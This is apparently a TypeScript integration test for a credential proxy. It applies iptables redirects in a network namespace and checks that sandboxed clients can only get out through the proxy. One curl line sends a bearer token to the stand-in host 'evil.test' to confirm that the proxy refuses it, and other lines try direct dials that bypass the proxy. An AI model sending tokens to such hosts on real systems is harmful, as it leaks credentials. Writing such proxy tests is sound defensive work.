// Runs inside the network namespace that transparent-netns.test.ts creates (as root there), and
// prints one `RESULT {json}` line of what it observed; the test asserts on it. The daemon and the
// upstreams run here as root (uid 0, credproxy's uid for the rules); the clients run as nobody
// (65534) with no proxy variables at all, so the kernel redirect is their only way out.
//
// Addresses: test names resolve (/etc/hosts) to 127.0.0.3, where the upstreams listen: it stands
// for "the internet". Only 127.0.0.1 is left alone as local (--loopback 127.0.0.1/32), so a
// client's direct dial to 127.0.0.3 is refused by the rules, while credproxy (uid 0) reaches it.
import { copyFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { eventually, startDaemon } from '../../helpers/harness/index.js';
import { createTestPki } from '../../helpers/pki.js';
import { startUpstream } from '../../helpers/upstream.js';
import { asNobody, BUNDLE, credproxyRuleCount, echoed, iptablesCli, printResult, python, rulesFlags } from './support.js';

const REAL = 'sk-real-netns-0123456789abcdef0123';

function dial(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, host);
    socket.setTimeout(5_000, () => socket.destroy(new Error('timeout')));
    socket.once('connect', () => {
      socket.destroy();
      resolve('connected');
    });
    socket.once('error', (err: NodeJS.ErrnoException) => resolve(err.code ?? err.message));
  });
}

const pki = await createTestPki('netns-upstream');
const upstream = await startUpstream({ pki, host: '127.0.0.3' });
const plain = await startUpstream({ host: '127.0.0.3' });
const d = await startDaemon({
  flags: {
    'transparent.https': '[::]:0',
    'transparent.http': '[::]:0',
    'transparent.sandbox': 'netns-agent',
    'upstream.caFile': pki.caPath,
    'upstream.resolve': [
      ...['api.example.test', 'v6.example.test', 'evil.test'].map((host) => `${host}:443=127.0.0.3:${upstream.port}`),
      `api.example.test:80=127.0.0.3:${plain.port}`,
    ],
  },
});
const result: Record<string, unknown> = {};
try {
  await d.api('POST', '/secrets', { name: 'example', value: REAL, auth: { type: 'bearer' }, hosts: ['api.example.test', 'v6.example.test'] });
  const sandbox = (await d.api('POST', '/sandboxes', { name: 'netns-agent', secrets: { EXAMPLE_KEY: 'example' } })).json as {
    id: string;
    env: Record<string, string>;
  };
  const auth = `Authorization: Bearer ${sandbox.env.EXAMPLE_KEY}`;
  // The CA reaches every client where the system trust store is read.
  copyFileSync(join(d.config.dataDir, 'ca-bundle.pem'), BUNDLE);

  const flags = rulesFlags(d.daemon.transparentHttpsAddress, d.daemon.transparentHttpAddress);
  result.upstreamPort = upstream.port;
  result.directBefore = await asNobody(process.execPath, [
    '-e',
    `require('net').connect(${upstream.port}, '127.0.0.3').on('connect', () => { console.log('connected'); process.exit(0) }).on('error', (e) => { console.log(e.code); process.exit(0) })`,
  ]);
  result.apply = iptablesCli('--apply', ...flags);
  result.applyAgain = iptablesCli('--apply', ...flags);
  result.ruleCount = credproxyRuleCount();

  result.curl = echoed(await asNobody('curl', ['-sS', '--max-time', '10', '-H', auth, 'https://api.example.test/netns/curl']));
  result.node = echoed(
    await asNobody(
      process.execPath,
      [
        '-e',
        `fetch('https://api.example.test/netns/node', { headers: { authorization: 'Bearer ${sandbox.env.EXAMPLE_KEY}' } }).then((r) => r.text()).then((t) => console.log(t), (e) => console.log(String(e.cause ?? e)))`,
      ],
      { NODE_EXTRA_CA_CERTS: BUNDLE },
    ),
  );
  result.python = echoed(
    await asNobody(python, [
      '-c',
      `import requests; print(requests.get('https://api.example.test/netns/python', headers={'Authorization': 'Bearer ${sandbox.env.EXAMPLE_KEY}'}, timeout=10).text)`,
    ]),
  );
  result.ipv6 = echoed(await asNobody('curl', ['-sS', '--max-time', '10', '-H', auth, 'https://v6.example.test/netns/v6']));
  result.plainHttp = echoed(await asNobody('curl', ['-sS', '--max-time', '10', 'http://api.example.test/netns/plain']));
  result.refused = await asNobody('curl', ['-sS', '--max-time', '10', '-o', '/dev/null', '-D', '-', '-H', auth, 'https://evil.test/netns/evil']);
  result.noSni = await asNobody('curl', ['-sS', '--max-time', '10', '-o', '/dev/null', '-D', '-', 'https://127.0.0.3/netns/ip']);
  result.direct = await asNobody(process.execPath, [
    '-e',
    `require('net').connect(${upstream.port}, '127.0.0.3').on('connect', () => { console.log('connected'); process.exit(0) }).on('error', (e) => { console.log(e.code); process.exit(0) })`,
  ]);
  result.udp = await asNobody(process.execPath, [
    '-e',
    `const s = require('dgram').createSocket('udp4'); s.connect(9999, '127.0.0.3', () => s.send('x', (e) => { console.log(e ? e.code : 'sent'); setTimeout(() => process.exit(0), 200) })); s.on('error', (e) => { console.log(e.code); process.exit(0) })`,
  ]);
  result.rootDirect = await dial('127.0.0.3', upstream.port);
  result.status = iptablesCli('--status', '--json', '--uid', '0');
  result.upstreamSaw = upstream.seen.map((e) => ({ url: e.url, authorization: e.headers.authorization }));
  result.plainSaw = plain.seen.map((e) => e.url);
  result.network = await eventually('connection rows', async () => {
    const rows = (await d.api('GET', `/sandboxes/${sandbox.id}/network?limit=100`)).json.data as Array<Record<string, unknown>>;
    return rows.filter((r) => r.kind === 'connection').length >= 5 ? rows : undefined;
  });
  result.standIn = sandbox.env.EXAMPLE_KEY;
  result.remove = iptablesCli('--remove', '--uid', '0');
  result.ruleCountAfter = credproxyRuleCount();
} finally {
  await d.close();
  await upstream.close();
  await plain.close();
  await pki.remove();
}
printResult(result);
